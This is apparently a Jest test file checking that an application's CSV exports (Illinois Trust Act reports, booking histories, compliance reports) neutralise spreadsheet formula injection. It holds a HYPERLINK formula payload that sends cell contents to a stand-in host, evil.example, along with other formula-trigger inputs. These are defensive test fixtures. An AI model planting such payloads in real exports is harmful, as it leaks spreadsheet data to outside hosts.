/** Every CSV export neutralises cells a spreadsheet would run as formulas (OWASP CSV injection). */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { ev, facilityBody } from './support/factories.js';
import { startTestApp, type TestApp } from './support/test-app.js';

let t: TestApp;
const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Jail")';
beforeAll(async () => {
  t = await startTestApp({ now: '2026-11-24T12:00:00.000Z' });
  await t.http
    .put('/api/facilities/quiet')
    .set('Authorization', t.admin)
    .send(facilityBody({ name: NAME, policy: 'calendar-48-hours' }))
    .expect(200);
  await t.http
    .put('/api/facilities/busy')
    .set('Authorization', t.admin)
    .send(facilityBody({ name: '+busy', policy: 'calendar-48-hours' }))
    .expect(200);
  await t.http
    .post('/api/events')
    .set('Authorization', t.admin)
    .send({
      events: [
        ev.opened({ facilityId: 'busy', bookingId: '=1+1', personId: '@person', occurredAt: '2026-11-01T10:00:00Z', eventId: '-evt-1' }),
        ev.lodged({ facilityId: 'busy', bookingId: '=1+1', occurredAt: '2026-11-02T10:00:00Z', eventId: '+evt-2', agency: '=ICE' }),
        ev.eligible({ facilityId: 'busy', bookingId: '=1+1', occurredAt: '2026-11-03T10:00:00Z', eventId: '\tevt-3', reason: 'bail_posted' }),
        ev.transferred({ facilityId: 'busy', bookingId: '=1+1', occurredAt: '2026-11-04T10:00:00Z', eventId: '\revt-4', toAgency: '@agency' }),
      ],
    })
    .expect(200);
});
afterAll(() => t.close());

const csv = async (path: string) => {
  const res = await t.http.get(path).set('Authorization', t.admin).expect(200);
  const rows: string[][] = parse(res.text, { relax_column_count: true });
  return rows;
};
const dangerous = (rows: string[][]) => rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c));

describe('CSV exports', () => {
  it('Illinois: the certification sentence that begins with the facility name, quoted', async () => {
    const rows = await csv('/api/reports/illinois-trust-act?facilityId=quiet&year=2026&format=csv');
    expect(rows[1][8]).toBe(`'${NAME} certifies that it received no immigration detainers in 2026.`);
    expect(dangerous(rows)).toEqual([]);
  });

  it('Illinois: the receiving agency as sent, quoted', async () => {
    const rows = await csv('/api/reports/illinois-trust-act?facilityId=busy&year=2026&format=csv');
    expect(rows[1][7]).toBe("'@agency");
    expect(dangerous(rows)).toEqual([]);
  });

  it('history (booking and person): ids and events as sent, quoted; the JSON column too', async () => {
    const rows = await csv(`/api/bookings/${encodeURIComponent('=1+1')}/history?format=csv`);
    expect(rows.slice(1).map((r) => [r[1], r[3]])).toEqual([
      ["'=1+1", "'-evt-1"],
      ["'=1+1", "'+evt-2"],
      ["'=1+1", "'\tevt-3"],
      ["'=1+1", "'\revt-4"],
    ]);
    expect(dangerous(rows)).toEqual([]);
    expect(dangerous(await csv(`/api/people/${encodeURIComponent('@person')}/history?format=csv`))).toEqual([]);
  });

  it('compliance: nothing to run, numbers left as numbers', async () => {
    const rows = await csv('/api/reports/compliance?from=2026-01-01T00:00:00Z&to=2027-01-01T00:00:00Z&format=csv');
    expect(dangerous(rows)).toEqual([]);
    expect(rows.find((r) => r[5] === 'detainersReceived')).toEqual(['Detainers received', 'Detainers received', 'all', '1', 'detainers', 'detainersReceived']);
  });
});
